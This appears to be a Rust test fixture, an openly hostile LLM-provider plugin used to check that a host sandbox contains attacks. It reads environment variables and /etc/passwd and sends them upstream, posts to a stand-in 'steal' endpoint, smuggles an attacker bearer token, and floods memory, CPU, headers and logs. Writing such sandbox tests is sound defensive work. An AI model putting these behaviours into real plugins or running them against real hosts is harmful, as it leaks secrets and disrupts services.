//! A deliberately hostile plugin for the sandbox tests. The request's model name
//! picks the attack; the host must contain every one of them.

use llmnode_sdk::prelude::*;

struct Hostile;

fn ok_request(conn: &ConnectionSettings, body: Vec<u8>) -> PreparedRequest {
    PreparedRequest {
        request: http::post(http::join(&conn.base_url, "chat/completions"), body),
        auth: AuthDirective::Bearer,
    }
}

impl Provider for Hostile {
    fn info() -> PluginInfo {
        PluginInfo {
            name: "hostile".into(),
            version: "0.0.1".into(),
            contract_version: CONTRACT_VERSION.into(),
            display_name: "Hostile test plugin".into(),
            auth: AuthScheme::ApiKey,
            default_base_url: "http://127.0.0.1:9/v1".into(),
            egress_hosts: Vec::new(),
            models: Vec::new(),
            capabilities: Capabilities::STREAMING,
        }
    }

    fn build_request(req: ChatRequest, conn: ConnectionSettings) -> Result<PreparedRequest, ProviderError> {
        match req.model.as_str() {
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            "memory-bomb" => {
                // Reserve (memory.grow) without touching the pages, so the
                // memory limit is reached in microseconds whatever the load,
                // well before the CPU deadline.
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    let mut block = Vec::with_capacity(8 << 20);
                    block.push(7u8);
                    hoard.push(std::hint::black_box(block));
                }
            }
            "panic" => panic!("the hostile plugin panicked on purpose"),
            "env" => {
                // Whatever the sandbox lets us see is sent upstream in the body.
                let seen: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
                Ok(ok_request(&conn, seen.join("\n").into_bytes()))
            }
            "files" => {
                let mut seen = String::new();
                for path in ["/etc/passwd", "/proc/self/environ", ".", "/"] {
                    match std::fs::read(path) {
                        Ok(bytes) => seen.push_str(&format!("READ {path}: {} bytes\n", bytes.len())),
                        Err(e) => seen.push_str(&format!("DENIED {path}: {e}\n")),
                    }
                }
                if let Ok(dir) = std::fs::read_dir("/") {
                    seen.push_str(&format!("LISTED / with {} entries\n", dir.count()));
                }
                Ok(ok_request(&conn, seen.into_bytes()))
            }
            "socket" => {
                let seen = match std::net::TcpStream::connect("127.0.0.1:80") {
                    Ok(_) => "CONNECTED".to_string(),
                    Err(e) => format!("DENIED: {e}"),
                };
                Ok(ok_request(&conn, seen.into_bytes()))
            }
            "exfiltrate" => Ok(PreparedRequest {
                request: http::post("http://127.0.0.1:1/steal".into(), b"{}".to_vec()),
                auth: AuthDirective::Bearer,
            }),
            "smuggle-authorization" => {
                let mut p = ok_request(&conn, b"{}".to_vec());
                p.request.headers.push(http::header("Authorization", "Bearer attacker"));
                Ok(p)
            }
            "huge-headers" => {
                let mut p = ok_request(&conn, b"{}".to_vec());
                for i in 0..20_000 {
                    p.request.headers.push(http::header(&format!("x-flood-{i}"), "v"));
                }
                Ok(p)
            }
            "log-flood" => {
                for i in 0..5_000 {
                    log::warn(&format!("flood line {i} {}", "x".repeat(1000)));
                }
                Ok(ok_request(&conn, b"{}".to_vec()))
            }
            other => Err(ProviderError::invalid(format!("unknown attack `{other}`"))),
        }
    }

    fn parse_response(_resp: HttpResponse) -> Result<ChatResponse, ProviderError> {
        Err(ProviderError::malformed("hostile plugins parse nothing"))
    }

    fn parse_stream_event(_event: StreamEvent) -> Result<StreamDelta, ProviderError> {
        Err(ProviderError::malformed("hostile plugins parse nothing"))
    }

    fn classify_error(status: u16, _headers: Vec<Header>, _body: Vec<u8>) -> ProviderError {
        ProviderError::new(errors::kind_for_status(status), "hostile")
    }

    fn test_request(conn: ConnectionSettings, _model: String) -> Result<PreparedRequest, ProviderError> {
        Ok(ok_request(&conn, Vec::new()))
    }
}

llmnode_sdk::export_plugin!(Hostile);
